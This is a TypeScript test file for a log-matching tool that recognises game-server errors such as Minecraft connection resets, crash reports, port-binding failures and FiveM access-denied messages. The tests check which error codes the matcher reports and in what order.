  const reset = matcherOf('minecraft/reset', ['Connection reset']);
  const lost =
    '[12:00:02] [Server thread/ERROR]: Kim lost connection: Internal Exception\njava.io.IOException: Connection reset\n';
  const came = '[12:00:03] [Server thread/INFO]: Alex joined the game\n';
  assert.equal(reset(`${MC.repeat(20)}${lost}`), 1);
  assert.equal(reset(`${MC.repeat(20)}${lost}${came}`), 0);
});

test("what a stranger's program says is not told, a word that many programs have only of few lines", () => {
  const daemon = matcherOf('general/port', ['port is already allocated']);
  const line = 'Error response from daemon: port is already allocated\n';
  assert.equal(daemon(line), 1);
  assert.equal(daemon(`$ docker compose up -d\n${line}`), 0);
  assert.equal(daemon(`$ docker compose up -d\n${' Container a Started\n'.repeat(4)}${line}`), 0);
  const plugin = matcherOf('minecraft/plugin', ['allocated']);
  assert.equal(plugin('Block allocated: b'), 1);
  assert.equal(plugin(`${'a line\n'.repeat(4)}Block allocated: b`), 0);
});

function matcherOf(code: string, patterns: readonly string[]): (log: string) => number {
  const one = createMatcher([rule(code, patterns)]);
  return (log) => one.match(log).findings.length;
}

test('an exception below a line of details says nothing; one without it does', () => {
  const mod = createMatcher([rule('minecraft/client', ['invalid side SERVER'])]);
  const thrown =
    'a.b.TransformerException: in a class\n\tat a.b.C.d(C.java:1)\nCaused by: java.lang.RuntimeException: Attempted to load class x for invalid side SERVER\n';
  const told = (log: string): readonly string[] => mod.match(log).findings.map(({ code }) => code);
  assert.deepEqual(told(`${MC}[12:00:01] [main/TRACE] [mixin]: Catching\n${thrown}`), []);
  assert.deepEqual(told(`${MC}[12:00:01] [main/ERROR] [mixin]: Catching\n${thrown}`), ['minecraft/client']);
});

test('what any unknown error looks like is told of the own game before its sister', () => {
  const alone = { alone: true as const };
  const sisters = createMatcher([
    { ...rule('redm/denied', ['Access denied for command {word}']), ...alone },
    { ...rule('gtav/denied', ['Access denied for command {word}']), ...alone },
  ]);
  const log =
    'Started resource hardcap\n[ citizen-server-impl] Authenticated with cfx.re Nucleus\n[ cmd] Access denied for command start.\n';
  assert.deepEqual(
    sisters.match(log).findings.map(({ code }) => code),
    ['gtav/denied'],
  );
});

test('the trace of what is no trouble is none either', () => {
  const look = createMatcher([
    { ...rule('minecraft/exception', ['at {word}.java:{number})']), alone: true as const },
  ]);
  const told = (log: string): readonly string[] => look.match(log).findings.map(({ code }) => code);
  const trace = '\tat sun.net.www.Http.get(Http.java:1)\n';
  const asked =
    'java.io.IOException: Server returned HTTP response code: 403 for URL: https://api.curseforge.com/servermods/files?projectIds=1\n';
  assert.deepEqual(told(`${MC}[12:00:01] [Thread-2/ERROR]: null\n${asked}${trace}`), []);
  assert.deepEqual(told(`${MC}[12:00:01] [Thread-2/ERROR]: null\njava.io.IOException: no\n${trace}`), [
    'minecraft/exception',
  ]);
});

test('a crash report says what the server was at, and below it with what that ended: the exception is the cause', () => {
  const own = createMatcher([
    rule('minecraft/ticking', ['Description: Ticking block entity']),
    rule('minecraft/mismatch', ['NoSuchFieldError: {word}']),
  ]);
  const report = (exception: string): readonly string[] =>
    own
      .match(
        `---- Minecraft Crash Report ----\nDescription: Ticking block entity\n\n${exception}\n\tat a.B.c(B.java:1)\n`,
      )
      .findings.map(({ code }) => code);
  assert.deepEqual(report('java.lang.NoSuchFieldError: CHAINED'), [
    'minecraft/mismatch',
    'minecraft/ticking',
  ]);
  assert.deepEqual(report('java.lang.NullPointerException'), ['minecraft/ticking']);
});

test('what is minor is told after all else', () => {
  const own = createMatcher([
    { ...rule('minecraft/icon', ['Could not load server icon']), minor: true },
    rule('minecraft/port', ['FAILED TO BIND TO PORT']),
  ]);
  const told = own.match(`${MC}Could not load server icon\nFAILED TO BIND TO PORT`).findings;
  assert.deepEqual(
    told.map(({ code }) => code),
    ['minecraft/port', 'minecraft/icon'],
  );
});
